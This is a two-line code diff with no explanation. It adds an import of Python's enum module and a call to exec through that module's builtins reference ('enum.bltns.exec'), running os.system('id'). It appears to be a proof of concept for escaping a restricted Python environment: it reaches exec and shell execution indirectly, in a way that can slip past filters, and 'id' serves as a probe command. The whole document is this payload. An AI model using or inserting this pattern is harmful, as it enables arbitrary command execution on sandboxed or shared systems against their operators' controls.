@@ -1,0 +1,2 @@
+import enum
+enum.bltns.exec("import os; os.system('id')")
